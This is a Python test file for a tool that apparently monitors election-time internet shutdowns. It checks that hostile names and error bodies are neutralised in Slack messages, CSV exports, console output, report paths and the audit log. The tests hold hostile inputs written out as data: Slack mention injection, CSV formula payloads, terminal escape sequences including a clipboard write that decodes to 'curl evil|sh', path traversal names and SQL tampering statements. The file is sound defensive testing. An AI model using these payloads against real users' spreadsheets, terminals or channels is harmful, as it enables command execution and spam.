"""Hostile outside text reaching pollwatch's sinks and inputs (issue 16: sinks and input files).

Names in a watch, observatories' error bodies and imported files are written by someone else.
Each test here plays that someone and checks what a user would see: the requests the fake Slack
server received, the cells of the CSV as the csv module reads them, the bytes on the console,
the errors of `pollwatch` commands, and what `pollwatch audit verify` says after tampering.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from typing import Any

import pytest
from pydantic import SecretStr

from pollwatch import outbox, report, store
from pollwatch.models import Evidence, Notice, NoticeLevel
from pollwatch.notify import ConsoleTransport, SlackTransport, WebhookTransport, deliver_outbox, notice_alerts
from pollwatch.playbook import Provider, Region, Service
from tests.fakes.slack_api import FakeSlack
from tests.fakes.slack_scenarios import T0, alerts_for, nationwide, story

TOKEN = "xoxb-sinks-test-0000"

# what an attacker puts into names and error bodies, for Slack
SLACK_HOSTILE = "<!channel> <!everyone> <https://evil.example/fix|click to fix> & <@U0ADMIN> `code` *x*"
ALLOWED_MARKUP = {"<!here>"}  # the watch's own configured mention, nothing else


def hostile_watch(watch: Any, name: str = "kz`<!channel>`x") -> Any:
    """The KZ watch with every name a coordinator (or a copied template) could get wrong."""
    providers = [p.model_copy(update={"name": f"{p.name} {SLACK_HOSTILE}"}) for p in watch.providers]
    regions = [r.model_copy(update={"name": f"{r.name} {SLACK_HOSTILE}"}) for r in watch.regions]
    return watch.model_copy(update={"name": name, "providers": providers, "regions": regions})


def _mrkdwn_texts(blocks: list[dict[str, Any]]) -> Iterator[str]:
    for b in blocks:
        stack: list[Any] = [b]
        while stack:
            node = stack.pop()
            if isinstance(node, dict):
                if node.get("type") == "mrkdwn":
                    yield node["text"]
                stack.extend(node.values())
            elif isinstance(node, list):
                stack.extend(node)


def _slack_fields(fake: FakeSlack) -> list[str]:
    """Every text Slack would parse as markup: the `text` fallback and every mrkdwn object, of every request."""
    out = []
    for c in fake.calls:
        if c.method in ("chat.postMessage", "chat.update", "webhook"):
            out.append(c.params.get("text") or "")
            blocks = c.params.get("blocks") or []
            if isinstance(blocks, str):
                import json

                blocks = json.loads(blocks)
            out.extend(_mrkdwn_texts(blocks))
    return out


def _assert_inert(fields: list[str]) -> None:
    assert fields
    for text in fields:
        assert set(re.findall(r"<[^>]*>", text)) <= ALLOWED_MARKUP, text
        assert text.count("`") % 2 == 0, f"a code span is left open: {text!r}"
        for span in re.findall(r"`([^`]*)`", text):
            assert "<" not in span and "\n" not in span, span


@pytest.fixture
def fake() -> Iterator[FakeSlack]:
    with FakeSlack(token=TOKEN) as f:
        yield f


def _incident_story(w: Any) -> list[Any]:
    inc = nationwide(w)
    inc = inc.model_copy(
        update={
            "evidence": [Evidence(name="x", supports=inc.cause, weight=0.5, detail=f"evidence {SLACK_HOSTILE}")],
            "scope": inc.scope.model_copy(
                update={"services": [f"svc {SLACK_HOSTILE}"], "signals": ["bgp", f"sig{SLACK_HOSTILE}"]}
            ),
            "override": {"by": f"who {SLACK_HOSTILE}", "why": f"why {SLACK_HOSTILE}", "cause": inc.cause.value},
        }
    )
    events = story(inc, updates=1)
    events[1].reasons = [f"scope grew {SLACK_HOSTILE}"]
    return alerts_for(w, events)


@pytest.mark.parametrize("transport", ["api", "webhook"])
def test_slack_requests_carry_outside_text_as_text(kz_watch, fake, transport):
    """Incident root, update, end and an ops notice quoting an observatory's error body: in every
    request the fake Slack received, the `text` fallback and every mrkdwn field hold no markup but
    the watch's own mention, and no code span is broken open by a backtick."""
    w = hostile_watch(kz_watch)
    notice = Notice(
        time=T0,
        level=NoticeLevel.error,
        source="ioda`<!channel>",
        watch=w.name,
        message=f"IODA answered 500: {SLACK_HOSTILE}",
    )
    with store.session_scope() as s:
        outbox.enqueue_alerts(s, _incident_story(w) + notice_alerts(w, [notice]))
    if transport == "api":
        t = SlackTransport(SecretStr(TOKEN), base_url=fake.base_url, timeout=2, pace=0.0)
    else:
        t = WebhookTransport(SecretStr(fake.webhook_url), timeout=2, pace=0.0)
    rep = deliver_outbox(w, t, chart=None, retry_delays=(0.01,))
    assert rep.ok and len(rep.sent) == 4, rep
    fields = _slack_fields(fake)
    _assert_inert(fields)
    everything = "\n".join(fields)
    # the words are still there for a reader, escaped
    assert "&lt;!channel&gt;" in everything and "click to fix" in everything and "&amp;" in everything
    assert "<!here>" in everything  # the configured mention still works (a critical incident)
    assert "`kz&lt;!channel&gt;x`" in everything  # the watch name stays inside its code span


def test_console_shows_outside_text_as_written(kz_watch):
    """The console rendering of the same messages reads as plain text: entities are decoded again."""
    w = hostile_watch(kz_watch)
    buf = io.StringIO()
    with store.session_scope() as s:
        outbox.enqueue_alerts(s, _incident_story(w)[:1])
    deliver_outbox(w, ConsoleTransport(buf), chart=None)
    out = buf.getvalue()
    assert "&lt;" not in out and "&amp;" not in out
    assert "<!channel> <!everyone>" in out


# --- CSV injection -------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def test_keepiton_csv_cells_never_start_a_formula(kz_watch, tmp_path):
    """Provider, region, service and election names that are spreadsheet formulas: every cell of the
    written CSV, read back with the csv module, starts with something a spreadsheet shows as text,
    and the name is still there after the quote."""
    from pollwatch.models import Cause, Family, Incident, IncidentKind, Scope

    w = kz_watch.model_copy(
        update={
            "election": FORMULAS[0],
            "providers": [Provider(asn=64500 + i, name=f, type="mobile") for i, f in enumerate(FORMULAS)],
            "regions": [Region(code=f"KZ-X{i}", name=f) for i, f in enumerate(FORMULAS)],
            # a watch's service names cannot hold '=' or control characters (entity keys); the incidents below carry
            # them all
            "services": [Service(name=f) for f in FORMULAS if "=" not in f and f.isprintable()],
        }
    )
    incs = [
        Incident(
            id="r1",
            watch=w.name,
            country="KZ",
            family=Family.connectivity,
            kind=IncidentKind.regional_outage,
            scope=Scope(regions=["KZ-X0"]),
            start=T0,
            detected_at=T0,
            updated_at=T0,
            cause=Cause.government_directed,
        ),
        Incident(
            id="n1",
            watch=w.name,
            country="KZ",
            family=Family.connectivity,
            kind=IncidentKind.network_outage,
            scope=Scope(asns=[64501], providers=[FORMULAS[1]]),
            start=T0,
            detected_at=T0,
            updated_at=T0,
        ),
        *[
            Incident(
                id=f"s{i}",
                watch=w.name,
                country="KZ",
                family=Family.service,
                kind=IncidentKind.service_block,
                scope=Scope(services=[f]),
                start=T0,
                detected_at=T0,
                updated_at=T0,
            )
            for i, f in enumerate(FORMULAS)
        ],
        Incident(
            id="c1",
            watch=w.name,
            country="KZ",
            family=Family.connectivity,
            kind=IncidentKind.regional_outage,
            scope=Scope(regions=["KZ-X1", "KZ-X2"]),
            start=T0,
            detected_at=T0,
            updated_at=T0,
        ),
    ]
    path = tmp_path / "keepiton.csv"
    report.write_keepiton_csv(report.keepiton_rows(w, incs), path)
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert len(rows) == 1 + len(incs)
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c.startswith(DANGEROUS_START)], [c for c in cells if c.startswith(DANGEROUS_START)]
    text = "\n".join(cells)
    for f in FORMULAS:
        assert "'" + f.replace("\r", "\n") in text  # neutralised, not dropped


# --- the terminal ---------------------------------------------------------------------------------

# clear screen, set the window title, write the clipboard (OSC 52), rewrite the line, reverse the text
TERMINAL_HOSTILE = "\x1b[2J\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\r\x9b31m OK \u202egnp.exe\u2066x\u2069\x00"
TERMINAL_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def test_console_alerts_and_notices_carry_no_terminal_controls(kz_watch):
    """A watch name, provider names and a server's error body full of escape sequences and bidi
    overrides: what the console transport prints holds none of them, and the words remain."""
    w = hostile_watch(kz_watch, name=f"kz{TERMINAL_HOSTILE}")
    w = w.model_copy(
        update={"providers": [p.model_copy(update={"name": p.name + TERMINAL_HOSTILE}) for p in w.providers]}
    )
    notice = Notice(
        time=T0, level=NoticeLevel.error, source="ioda", watch=w.name, message=f"IODA said: {TERMINAL_HOSTILE}"
    )
    with store.session_scope() as s:
        outbox.enqueue_alerts(s, _incident_story(w) + notice_alerts(w, [notice]))
    buf = io.StringIO()
    rep = deliver_outbox(w, ConsoleTransport(buf), chart=None)
    assert len(rep.sent) == 4
    out = buf.getvalue()
    assert not TERMINAL_UNSAFE.search(out), TERMINAL_UNSAFE.findall(out)
    assert "IODA said:" in out and "gnp.exe" in out and "Kazakhtelecom" in out


def test_cli_tables_and_errors_carry_no_terminal_controls(tmp_path):
    """`pollwatch audit runs` listing a run of a hostile watch, and `pollwatch observations import`
    failing on a path with escapes in its name: stdout and stderr hold no control characters."""
    from typer.testing import CliRunner

    from pollwatch import audit
    from pollwatch.cli import app

    with store.session_scope() as s:
        audit.record_run_start(
            s,
            watch=f"kz{TERMINAL_HOSTILE}"[:100],
            flow_run_id="r1",
            flow=f"tick{TERMINAL_HOSTILE}",
            deployment=None,
            parameters={},
            playbook_hash="0" * 64,
        )
    runner = CliRunner()
    res = runner.invoke(app, ["audit", "runs"])
    assert res.exit_code == 0 and "r1" in res.stdout
    assert not TERMINAL_UNSAFE.search(res.stdout), repr(res.stdout)
    bad = tmp_path / f"obs{TERMINAL_HOSTILE.replace(chr(0), '')}.jsonl"
    res = runner.invoke(app, ["observations", "import", str(bad)])
    assert res.exit_code != 0 and "obs" in res.stderr
    assert not TERMINAL_UNSAFE.search(res.stderr.rstrip("\n")), repr(res.stderr)


# --- limits on watches ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "snippet,message",
    [
        ('providers:\n  - {asn: 64500, name: "Evil\\0Net"}\n', "providers.0.name: contains a NUL character"),
        (
            "services:\n  - name: " + "w" * 1_000_000 + "\n",
            "services.0.name: value is 1000000 characters long; at most 100",
        ),
        ("regions:\n  - {code: KZ-ALA, name: " + "R" * 101 + "}\n", "regions.0.name: value is 101 characters long"),
        ("description: " + "d" * 2001 + "\n", "description: value is 2001 characters long; at most 2000"),
        ("k" * 101 + ": 1\n", "key is 101 characters long"),
    ],
)
def test_watch_strings_are_bounded_and_nul_free(tmp_path, snippet, message):
    """NULs and absurd lengths are refused at validation, naming file:line and the field (they used
    to validate and then fail every PostgreSQL write, or make `simulate` write gigabytes)."""
    from pollwatch.playbook import PlaybookError, load_playbook

    path = tmp_path / "evil.yaml"
    path.write_text("template: rapid-response.yaml\nname: evil\ncountry: KZ\nelection_date: 2019-06-09\n" + snippet)
    with pytest.raises(PlaybookError) as err:
        load_playbook(path)
    assert any(re.match(rf"{re.escape(str(path))}:[56]: ", p) and message in p for p in err.value.problems), (
        err.value.problems
    )


def test_a_huge_or_binary_watch_file_is_one_clear_error(tmp_path):
    from pollwatch.playbook import PlaybookError, load_playbook

    big = tmp_path / "big.yaml"
    big.write_text("description: x\n" + "#" * (2 << 20) + "\n")
    with pytest.raises(PlaybookError, match="larger than 1024 KB"):
        load_playbook(big)
    latin = tmp_path / "latin1.yaml"
    latin.write_bytes(b"name: ok\ndescription: caf\xe9\n")
    with pytest.raises(PlaybookError, match=r"latin1.yaml:2: not UTF-8"):
        load_playbook(latin)


# --- output paths -------------------------------------------------------------------------------------


def test_a_watch_name_cannot_move_the_default_report_out_of_reports(kz_watch, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for name in ("../../x", "/etc/cron.d/x", "..", "a/../../b", "\x00\u202e"):
        w = kz_watch.model_copy(update={"name": name})
        path = report.default_path(w, T0)
        assert path.parent == __import__("pathlib").Path("reports") and ".." not in path.parts, path
        res = report.build_report(w, T0, T0.replace(hour=6), max_charts=0)
        written = (tmp_path / res.path).resolve()
        assert written.is_relative_to(tmp_path / "reports") and written.is_file()


UNWRITABLE = ["/dev/full", "{tmp}/no/such/folder/out", "{tmp}", "{tmp}/a-file/out"]


@pytest.mark.parametrize("target", UNWRITABLE)
def test_unwritable_outputs_are_one_line_a_nonzero_exit_and_audited(tmp_path, target):
    """`report -o`, `export keepiton -o`, `observations export --out`, `simulate --out` and
    `audit export-head` into a full device, a folder that does not exist (under a file), or a
    directory: one line on stderr naming the path, exit status 1, no traceback; the report and
    the export enter the failure in the audit log."""
    from typer.testing import CliRunner

    from pollwatch import audit
    from pollwatch.cli import app

    from pollwatch.models import Observation

    with store.session_scope() as s:  # something to export (0 bytes fit even on /dev/full)
        store.upsert_observations(s, [Observation(time=T0, source="ioda", signal="bgp", country="KZ", value=1.0)])
    (tmp_path / "a-file").write_text("x")
    if target == "{tmp}/no/such/folder/out":
        (tmp_path / "no").write_text("a file where a folder should be")
    path = target.format(tmp=tmp_path)
    runner = CliRunner()
    commands = [
        (["report", "kz-2019-presidential", "-o", path, "--max-charts", "0"], "html-report"),
        (["export", "keepiton", "kz-2019-presidential", "-o", path], "keepiton-csv"),
        (["observations", "export", "--out", path], None),
        (
            [
                "simulate",
                "kz-2019-presidential",
                "--out",
                path,
                "--events",
                "none",
                "--from",
                "2019-06-09T00:00:00Z",
                "--until",
                "2019-06-09T01:00:00Z",
            ],
            None,
        ),
        (["audit", "export-head", path], None),
    ]
    for args, what in commands:
        res = runner.invoke(app, args)
        assert res.exit_code == 1, (args, res.exit_code, res.output, res.exception)
        assert not isinstance(res.exception, Exception) or isinstance(res.exception, SystemExit), res.exception
        err = res.stderr.strip()
        assert "\n" not in err and "Traceback" not in err and err.startswith(f"{path}: cannot write"), (args, err)
        if what:
            with store.session_scope() as s:
                last = audit.entries(s, kind="report")[-1]
            assert last.subject == what and last.payload["written"] is False and path in last.payload["file"]
    with store.session_scope() as s:
        assert audit.verify(s).ok


# /dev/full opens: it fails after the replay
@pytest.mark.parametrize("target", [t for t in UNWRITABLE if t != "/dev/full"])
def test_replay_json_into_an_unwritable_path_is_one_line_before_any_replay(tmp_path, target, monkeypatch):
    """`replay --json` into a directory or a folder that cannot exist: one line naming the path, exit 1, no
    traceback, and the replay does not run (the output is opened first)."""
    from typer.testing import CliRunner

    import pollwatch.flows.replay
    from pollwatch.cli import app
    from pollwatch.jsonl import write_observations
    from pollwatch.models import Observation

    ran: list[str] = []
    monkeypatch.setattr(
        pollwatch.flows.replay, "replay", lambda *a, **k: ran.append("replay") or {"incidents": [], "alerts": []}
    )
    obs = tmp_path / "obs.jsonl"
    write_observations([Observation(time=T0, source="ioda", signal="bgp", country="KZ", value=1.0)], obs)
    (tmp_path / "a-file").write_text("x")
    if target == "{tmp}/no/such/folder/out":
        (tmp_path / "no").write_text("a file where a folder should be")
    path = target.format(tmp=tmp_path)
    res = CliRunner().invoke(app, ["replay", "kz-2019-presidential", "--observations", str(obs), "--json", path])
    assert res.exit_code == 1, (res.output, res.exception)
    err = res.stderr.strip()
    assert "\n" not in err and "Traceback" not in err and err.startswith(f"{path}: cannot write"), err
    assert ran == []


# --- the audit log ------------------------------------------------------------------------------------


def _verify(*args: str, code: int) -> str:
    from typer.testing import CliRunner

    from pollwatch.cli import app

    res = CliRunner().invoke(app, ["audit", "verify", *args])
    assert res.exit_code == code, (res.exit_code, res.output, res.exception)
    return res.stdout


@pytest.fixture
def imported(tmp_path) -> list[Any]:
    """Two days of simulated KZ observations imported with `pollwatch observations import`."""
    from datetime import timedelta

    from typer.testing import CliRunner

    from pollwatch.cli import app
    from pollwatch.jsonl import write_observations
    from pollwatch.models import Observation

    obs = [
        Observation(
            time=T0 + timedelta(minutes=5 * i), source=src, signal=sig, country="KZ", value=float(1000 + i % 37)
        )
        for i in range(300)
        for src, sig in (("ioda", "bgp"), ("ooni", "telegram_failure_rate"))
    ]
    path = tmp_path / "obs.jsonl"
    write_observations(obs, path)
    res = CliRunner().invoke(app, ["observations", "import", str(path)])
    assert res.exit_code == 0, res.output
    return obs


def test_observations_import_is_audited(imported):
    from pollwatch import audit

    with store.session_scope() as s:
        entries = audit.entries(s, kind="observations")
    assert [(e.subject, e.payload["count"]) for e in entries] == [("ioda", 300), ("ooni", 300)]
    assert entries[-1].payload["table_rows"] == 600
    assert "checked: the observation table (600 rows)" in _verify(code=0)


@pytest.mark.parametrize(
    "tamper",
    [
        "UPDATE observation SET value = 0 WHERE id = (SELECT MIN(id) FROM observation)",  # a shutdown hidden
        "DELETE FROM observation WHERE id = (SELECT MAX(id) FROM observation)",
        "INSERT INTO observation (source, signal, entity, country, time, value) VALUES ('ioda', 'bgp', 'KZ', 'KZ', "
        "'2019-06-01 00:00:00.000000', 1.0)",
        "UPDATE observation SET time = '2019-06-01 00:00:00.000000' WHERE id = 7",
    ],
)
def test_observation_edits_and_deletions_are_caught(imported, tamper):
    """Without --data, and without a head file: an observation changed, deleted or added in SQL
    breaks `audit verify`, naming the batch entry whose recorded table digest no longer holds."""
    with store.get_engine().begin() as conn:
        conn.exec_driver_sql(tamper)
    out = _verify(code=1)
    assert "BROKEN at entry 2 (data): observations: the table" in out and "behind pollwatch's back" in out


def test_verify_says_a_cut_end_needs_the_head(imported, tmp_path):
    with store.get_engine().begin() as conn:
        conn.exec_driver_sql("DELETE FROM audit_entry WHERE seq = (SELECT MAX(seq) FROM audit_entry)")
    out = _verify(code=0)  # a shorter chain is valid by itself: the output says so
    assert out.startswith("audit log OK: 1 entries")
    assert "NOT checked: entries cut from the end of the log: only `--head FILE`" in out


def test_a_read_only_copy_of_the_store_is_verified_without_writing_to_it(imported, tmp_path, monkeypatch):
    import os
    import shutil
    import sqlite3

    store.dispose_engines()
    src = __import__("pathlib").Path(store.database_url().split("///", 1)[1])
    with sqlite3.connect(src) as c:  # a consistent copy, as an auditor would get it
        c.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    copy_dir = tmp_path / "copy"
    copy_dir.mkdir()
    copy = copy_dir / "pollwatch.sqlite"
    shutil.copyfile(src, copy)
    os.chmod(copy, 0o444)
    os.chmod(copy_dir, 0o555)
    before = copy.read_bytes()
    monkeypatch.setenv("POLLWATCH_DATABASE_URL", f"sqlite:///{copy}")
    try:
        assert _verify(code=0).startswith("audit log OK")
        with store.readonly_session() as s, pytest.raises(Exception, match="readonly|read-only"):
            s.execute(__import__("sqlalchemy").text("DELETE FROM observation"))
    finally:
        os.chmod(copy_dir, 0o755)
    assert copy.read_bytes() == before
    assert sorted(p.name for p in copy_dir.iterdir()) == ["pollwatch.sqlite"]  # no -wal, no -shm, no migration


@pytest.mark.parametrize("backend", ["sqlite", "postgres"])
def test_a_server_error_with_nul_and_a_megabyte_is_kept_as_a_bounded_notice_and_gap(backend, request):
    """A server's error text quoted in a notice and a gap holds a NUL and a megabyte: both are stored (PostgreSQL
    refuses NUL in text, which would fail the tick's write), cut to MAX_MESSAGE, and the words before the NUL remain."""
    from pollwatch import store
    from pollwatch.models import MAX_MESSAGE, Gap, Notice

    url = request.getfixturevalue("isolated_store" if backend == "sqlite" else "pg_url")
    body = "upstream said: bad\x00request " + "x" * 1_000_000
    with store.session_scope(url) as s:
        store.add_notices(s, [Notice(time=T0, source="ooni", message=f"OONI answered 400: {body}", watch="kz")])
        store.add_gaps(
            s, "kz", [Gap(source="ooni", signal="service_failure_rate", entity="KZ", start=T0, end=T0, reason=body)]
        )
    with store.session_scope(url) as s:
        [notice] = store.list_notices(s, "kz")
        [gap] = store.list_gaps(s, "kz")
    for text in (notice.message, gap.reason):
        assert "\x00" not in text and len(text) <= MAX_MESSAGE
        assert "bad\ufffdrequest" in text
